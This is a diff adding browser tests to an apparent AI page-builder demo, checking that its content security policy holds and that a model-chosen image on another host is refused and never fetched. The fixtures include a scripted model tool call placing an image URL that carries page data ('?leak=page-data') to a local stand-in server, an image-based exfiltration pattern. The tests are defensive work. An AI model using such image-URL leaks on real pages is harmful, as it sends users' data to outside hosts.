@@ -2,6 +2,11 @@
 // Chromium. Timing is controlled by holding a hop's response, never by sleeping and hoping.
 import { strict as assert } from 'node:assert';
 import { mkdirSync } from 'node:fs';
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { after, before, describe, it } from 'node:test';
 import { DEFAULT_FIXTURES_DIR, loadScenario } from '@canvas-ai/protocol/node';
 import type { Scenario } from '@canvas-ai/protocol/scenario';
@@ -140,6 +145,9 @@ describe('the demo editor against the reference server', () => {
         [1, 2, 3, 4, 5, 6, 7, 8],
       );
       assert.equal(new Set(demo.hops.map((hop) => hop.requestId)).size, 1, 'one request_id for the whole turn');
+      // zod asks once whether eval is allowed (new Function, caught); that the policy says no is the point.
+      const violations = (await demo.policyViolations()).filter((violation) => violation !== 'script-src eval');
+      assert.deepEqual(violations, [], "the demo lives within the server's content security policy");
       // Each hop carries the layout the browser held after applying the previous hop's outputs.
       assert.deepEqual(
         demo.hops.map((hop) => hop.body.context.current_layout.regions.content?.components.length),
@@ -428,6 +436,101 @@ describe('the demo editor against the reference server', () => {
       await demo.close();
     }
   });
+
+  describe('images from other sites', () => {
+    let pixel: { port: number; requests: string[]; close(): Promise<void> };
+    let scripted: ServerProcess;
+    let scenarios: string;
+    before(async () => {
+      pixel = await startPixelServer();
+      // A scripted model that places a hero whose image is on the pixel server, with page data in its URL.
+      scenarios = await mkdtemp(join(tmpdir(), 'canvas-ai-demo-scenarios-'));
+      const components = `- sdc.demo.hero:\n    props:\n      heading: Hi\n      image:\n        src: http://127.0.0.1:${pixel.port}/hero.svg?leak=page-data\n        alt: x\n`;
+      const scenario = {
+        id: 'remote-image',
+        title: 'A model-chosen image on another site',
+        description: 'The model places a hero whose image is on another host; the server refuses the call.',
+        agent: 'page_builder',
+        max_hops: 12,
+        user_message: REMOTE_IMAGE_MESSAGE,
+        replies: [
+          {
+            text: 'Adding a hero with that photo.',
+            tool_calls: [
+              {
+                id: 'call_remote',
+                name: 'place_components',
+                arguments: JSON.stringify({ operations: [{ target: 'content', placement: 'inside', components }] }),
+              },
+            ],
+          },
+          { text: 'I could not use that image.' },
+        ],
+        hops: [
+          { should_continue: true, outputs: [], progress: 'Adding a hero with that photo.' },
+          {
+            should_continue: false,
+            outputs: [],
+            progress: 'Adding a hero with that photo.',
+            message: 'I could not use that image.',
+            finish_reason: 'answer',
+          },
+        ],
+      };
+      // JSON is YAML: the scenario loader reads it as any scenario file.
+      await writeFile(join(scenarios, 'remote-image.yaml'), JSON.stringify(scenario));
+      scripted = await startServerProcess({ args: ['--scenarios', scenarios] });
+    });
+    after(async () => {
+      await scripted?.stop();
+      await pixel?.close();
+      await rm(scenarios, { recursive: true, force: true });
+    });
+
+    it('never fetches a model-chosen image on another site: the server refuses the placement', async () => {
+      const demo = await openDemo(chromium.browser, scripted.url);
+      try {
+        await demo.page.evaluate(
+          (text) =>
+            (document.querySelector('canvas-ai-chat') as unknown as ChatElement).sendMessage(text, {
+              agent: 'page_builder',
+            }),
+          REMOTE_IMAGE_MESSAGE,
+        );
+        assert.equal(await demo.turnEnded(0), 'done');
+        await settle(demo);
+        assert.equal(await demo.rows(), 0, 'nothing was placed');
+        assert.equal(await demo.page.locator('#canvas img').count(), 0);
+        assert.deepEqual(pixel.requests, [], 'nothing reached the other site');
+        // The model was told why (its next decision saw the tool result).
+        assert.match(scripted.log.join('\n'), /"tool_errors":1/);
+      } finally {
+        await demo.close();
+      }
+    });
+
+    it("loads no image from another site on the demo at all: the page's policy blocks it", async () => {
+      const demo = await openDemo(chromium.browser, server.url);
+      try {
+        const blocked = await demo.page.evaluate(async (port) => {
+          const violation = new Promise<string>((resolve) =>
+            document.addEventListener('securitypolicyviolation', (event) => resolve(event.violatedDirective), {
+              once: true,
+            }),
+          );
+          const image = document.createElement('img');
+          image.src = `http://127.0.0.1:${port}/host-content.png?leak=page-data`;
+          document.querySelector('#canvas')!.append(image);
+          return violation;
+        }, pixel.port);
+        assert.match(blocked, /^img-src/);
+        await settle(demo);
+        assert.deepEqual(pixel.requests, [], 'nothing reached the other site');
+      } finally {
+        await demo.close();
+      }
+    });
+  });
 });
 
 describe('co-editing: the person edits the page while the agent works (spec §16)', () => {
@@ -547,3 +650,26 @@ describe('co-editing: the person edits the page while the agent works (spec §16
     }
   });
 });
+/** The text the remote-image scenario answers to. */
+const REMOTE_IMAGE_MESSAGE = 'Put a hero with the photo from my other site';
+
+/** The widget element as the page sees it. */
+interface ChatElement {
+  sendMessage(text: string, options?: { agent?: string }): void;
+}
+
+/** A server on 127.0.0.1 that records every request (the "other site" a leaked image would reach). */
+async function startPixelServer(): Promise<{ port: number; requests: string[]; close(): Promise<void> }> {
+  const requests: string[] = [];
+  const server = createServer((request, response) => {
+    requests.push(request.url ?? '');
+    response.writeHead(200, { 'content-type': 'image/gif' });
+    response.end();
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  return {
+    port: (server.address() as AddressInfo).port,
+    requests,
+    close: () => new Promise((resolve) => server.close(() => resolve())),
+  };
+}
